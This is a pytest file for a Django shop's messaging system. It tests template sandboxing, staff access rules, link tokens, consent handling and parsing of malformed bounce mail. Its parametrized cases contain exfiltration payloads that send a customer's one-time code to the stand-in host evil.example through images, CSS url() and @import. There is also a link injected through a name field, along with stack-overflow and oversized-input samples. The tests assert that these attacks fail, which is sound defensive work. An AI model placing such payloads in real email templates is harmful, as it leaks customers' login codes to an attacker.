"""Attacks on messages: templates, links, what staff may read, and mail that strangers send us."""

import re
import time
from datetime import timedelta

import pytest
from django.utils import timezone

from clientela.accounts.actions import change_email
from clientela.core.actor import SYSTEM, visitor
from clientela.core.errors import NotThere, TooMany
from clientela.customers import actions as customers
from clientela.customers.models import Channel, Consent, Customer, OptIn
from clientela.journal.models import Event
from clientela.messaging import links, markup
from clientela.messaging.actions import compose, confirm, notify, preview, resend
from clientela.messaging.actions.wording import TemplateWrong
from clientela.messaging.changes import changes
from clientela.messaging.kinds import KINDS
from clientela.messaging.liquid.engine import TemplateBroken
from clientela.messaging.liquid.sandbox import Sandbox
from clientela.messaging.models import MarketingSettings, Wording
from clientela.messaging.rendering import Own, render_own
from clientela.post import actions as post
from clientela.post import dsn
from clientela.post.actions.delivering import outgoing
from clientela.post.letter import marker
from clientela.post.models import Sender
from clientela.staff.models import Notice
from clientela.store.models import Store
from tests.cast import Cast, as_customer, as_staff

DEEP = "<html><body>{% for i in (1..9000) %}<div><div><div>{% endfor %}x</body></html>"
CODE = {**KINDS["account.code"].sample, "code": "123456"}


def worded(kind: str, body: str, subject: str = "Hello", *, is_html: bool = True) -> Wording:
    """Words that got past the check, as a template does that is only hostile with real values."""
    return Wording.objects.create(kind=kind, language="en", subject=subject, body=body, is_html=is_html)


def test_nested_html_ends_the_process_apart_and_no_other(db: None, cast: Cast) -> None:
    """TP-03: HTML so deep that reading it overflows the stack; the email goes out in the built-in words."""
    with pytest.raises(TemplateWrong):
        preview("account.code", "en", Own("x", DEEP, is_html=True), by=cast.owner.as_actor())
    own = worded("account.code", DEEP)
    sent = notify("account.code", cast.ingrid.email, CODE, by=SYSTEM, customer_id=cast.ingrid.pk)
    assert sent and "<div><div><div>" not in sent.html
    own.refresh_from_db()
    assert own.problem["message"]


def test_a_page_grown_huge_is_refused() -> None:
    """TP-03: styles put in their places may not make megabytes of a small template."""
    page = f"<style>p{{font-family:{'a' * 20_000}}}</style>" + "<p>x</p>" * 2000
    apart = Sandbox()
    try:
        with pytest.raises(TemplateBroken):
            apart.inline(page)
        assert "color" in apart.inline("<style>p{color:red}</style><p>x</p>")
    finally:
        apart.end()


@pytest.mark.parametrize(
    "thief",
    [
        '<img src="https://evil.example/?c={{ code }}">',
        '<img src="https://evil.example/?c=&#x78;{{ code | slice: 1, 40 }}">',
        '<p style="background:url(https://evil.example/{{ code }})">x</p>',
        "<style>p{background:url(https://evil.example/{{ code }})}</style><p>x</p>",
        "<STYLE type=a>@import url(https://evil.example/{{ code }});</STYLE><p>x</p>",
    ],
)
def test_no_picture_carries_a_secret_away(db: None, cast: Cast, thief: str) -> None:
    """AC-05, TP-01: whoever words emails learns no customer's code from a picture that loads by itself."""
    worded("account.code", f"<p>{{{{ code }}}}</p>{thief}")
    sent = notify("account.code", cast.ingrid.email, CODE, by=SYSTEM, customer_id=cast.ingrid.pk)
    assert sent
    html = outgoing(sent).html
    assert not re.search(r"evil\.example[^\"'<)]*123456", html)
    assert "123456" in html


def test_comparing_versions_is_quick() -> None:
    """RL: no two versions of a template take the history page longer than an ordinary one."""
    began = time.monotonic()
    changes("a\nb\n" * 900, "b\na\nc\n" * 600)
    changes(*("\n".join(f"k{i}\n" + words * 400 for i in range(120)) for words in ("a b ", "b a ")))
    assert time.monotonic() - began < 3


def test_a_link_keeps_its_secret() -> None:
    """TP-01: words and links, which nobody follows unasked, still hold it."""
    sign = marker("link")
    assert sign in markup.clean(f'<a href="{sign}">Set a password</a>')


def test_a_name_makes_no_button(db: None) -> None:
    """WB-04, TP-01: what somebody typed as a name can't put an address behind a button's words."""
    values = {"customer": {"first_name": "x](https://evil.example/"}}
    own = Own("Hi", "[Hello {{ customer.first_name }}](https://store.example/go)")
    html = render_own(own, values, "en", Store.current()).html
    assert 'href="https://evil' not in html


def test_odd_values_stop_no_email(db: None) -> None:
    """TP-03: a value that is no plain one is written as its words."""
    made = render_own(Own("Hi", "{{ when }}"), {"when": timedelta(days=1)}, "en", Store.current())
    assert "1 day" in made.text


def test_a_failure_names_no_customer(db: None, cast: Cast) -> None:
    """TP-03, journal: the library's words hold values of the email; the log and the page keep them out."""
    own = worded("account.code", "{{ shop[customer.email] }}", is_html=False)
    assert notify("account.code", cast.ingrid.email, CODE, by=SYSTEM, customer_id=cast.ingrid.pk)
    own.refresh_from_db()
    fact = Event.objects.filter(name="notification.failed").latest("pk")
    for told in (str(own.problem), str(fact.data)):
        assert "undefined" in told and "example.com" not in told.lower()


def test_resending_reads_nothing_that_staff_may_not_read(db: None, cast: Cast) -> None:
    """AC-02, AC-03: an email that a role may not open can't be sent to oneself, nor anywhere, either."""
    sent = notify("account.code", cast.ingrid.email, CODE, by=SYSTEM, customer_id=cast.ingrid.pk)
    assert sent
    for to_me in (True, False):
        with pytest.raises(NotThere):
            resend(sent.pk, to_me=to_me, by=cast.marketing.as_actor())
    copy = resend(sent.pk, to_me=True, by=cast.support.as_actor())
    assert "123456" not in copy.html + copy.text + copy.subject and not copy.secrets


def test_drafts_are_their_writers_own(db: None, cast: Cast) -> None:
    """AC-03: what a colleague hasn't sent isn't open to others."""
    draft = compose(cast.ingrid.pk, subject="Soon", text="Not yet", by=cast.owner.as_actor())
    page = f"/admin/messages/{draft.pk}"
    assert as_staff(cast.support).get(page).status_code == 404
    assert as_staff(cast.support).get(f"{page}/body").status_code == 404
    assert as_staff(cast.owner).get(page).status_code == 200


def test_resending_secrets_is_bounded(db: None, cast: Cast) -> None:
    """RL-06: staff, too, can't fill a mailbox with links."""
    sent = notify(
        "account.password_reset", cast.ingrid.email,
        KINDS["account.password_reset"].sample,
        by=SYSTEM, customer_id=cast.ingrid.pk,
    )  # fmt: skip
    assert sent
    with pytest.raises(TooMany):
        for _each in range(4):
            resend(sent.pk, to_me=False, by=cast.support.as_actor())


def test_a_removed_sender_sends_nothing_again(db: None, cast: Cast) -> None:
    """TP-05: an email that came from an address the store gave up goes out from the store's own."""
    sender = Sender.objects.create(
        key="help@other.example", email="help@other.example", name="Help", verified_at=timezone.now()
    )
    by = cast.owner.as_actor()
    draft = compose(cast.ingrid.pk, subject="Hi", text="Hello", sender_id=sender.pk, by=by)
    assert post.send_draft(draft.pk, by=by)
    assert resend(draft.pk, to_me=False, by=by).from_email == "help@other.example"
    sender.delete()
    assert resend(draft.pk, to_me=False, by=by).from_email == Store.current().email


def test_an_old_yes_undoes_no_no(db: None, cast: Cast) -> None:
    """LK-03: a confirming link is over once its reader has left the newsletter."""
    token = links.confirm_path(cast.guest, "newsletter", "News").rsplit("/", 1)[1]
    assert confirm(token, by=visitor("192.0.2.7"))
    assert confirm(token, by=visitor("192.0.2.7"))
    customers.set_consent(
        cast.guest.pk, Channel.EMAIL, Consent.UNSUBSCRIBED, level=OptIn.UNKNOWN, source="unsubscribe",
        by=SYSTEM,
    )  # fmt: skip
    assert not confirm(token, by=visitor("192.0.2.7"))
    assert Customer.objects.get(pk=cast.guest.pk).email_consent == Consent.UNSUBSCRIBED


def test_links_serve_one_purpose_and_cant_be_forged(db: None, cast: Cast) -> None:
    """LK-01, TP-06: a preferences link confirms nothing, a confirming link unsubscribes nobody."""
    confirming = links.confirm_path(cast.guest, "newsletter", "News").rsplit("/", 1)[1]
    choosing = links.preferences_path(cast.guest).rsplit("/", 1)[1]
    assert links.agreed(choosing) is None and links.reader(confirming) is None
    for broken in (choosing[:-2], choosing[::-1], "", "x" * 5000, "é", f"{choosing}="):
        found = links.reader(broken)
        assert found is None or broken.rstrip("=") == choosing.rstrip("=")


def test_an_account_page_is_no_way_round_double_opt_in(db: None, cast: Cast) -> None:
    """Consent: an address that nobody proved waits for its yes by email, wherever somebody subscribes."""
    MarketingSettings.objects.update(double_opt_in=True)
    change_email(cast.ingrid.pk, "new.ingrid@example.com", by=cast.support.as_actor())
    browser = as_customer(Customer.objects.get(pk=cast.ingrid.pk))
    browser.post("/account/profile/marketing", {"email_marketing": "on"})
    assert Customer.objects.get(pk=cast.ingrid.pk).email_consent == Consent.PENDING


def test_a_mention_tells_only_those_who_read_comments(db: None, cast: Cast) -> None:
    """AC-03: who may not read comments learns that they were mentioned, and no word of it."""
    text = "@Marketing @Support the marked words"
    made = customers.comment(cast.ingrid.pk, text, by=cast.owner.as_actor())
    for reader, may in ((cast.support, True), (cast.marketing, False)):
        page = as_staff(reader).get("/admin/notices").content.decode()
        assert (cast.owner.name in page) and ("the marked words" in page) is may
    customers.edit_comment(cast.ingrid.pk, made.pk, "@Support milder", by=cast.owner.as_actor())
    assert not Notice.objects.filter(text__contains="marked").exists()
    customers.delete_comment(cast.ingrid.pk, made.pk, by=cast.owner.as_actor())
    assert not Notice.objects.exists()


@pytest.mark.parametrize(
    "raw",
    [
        b"Content-Type: message/rfc822\n\n" * 8000,
        b"".join(b'Content-Type: multipart/report; boundary="b%d"\n\n--b%d\n' % (i, i) for i in range(3000)),
        b"Content-Type: multipart/report; boundary=b\n\n--b\nContent-Type: text/rfc822-headers; "
        b"charset=none-such\n\nMessage-ID: <a\0@b>\n\n--b\nContent-Type: message/delivery-status\n\n"
        b"Action: failed\nStatus: 5.1.1\nDiagnostic-Code: \xff\0\x1b[31m\n\n--b--",
    ],
)
def test_no_mail_blocks_the_bounce_mailbox(raw: bytes) -> None:
    """Anybody can write there: what can't be read is passed over, nothing odd reaches the database."""
    found = dsn.read(raw)
    assert found is None or (found.words.isprintable() and "\0" not in found.message_id)
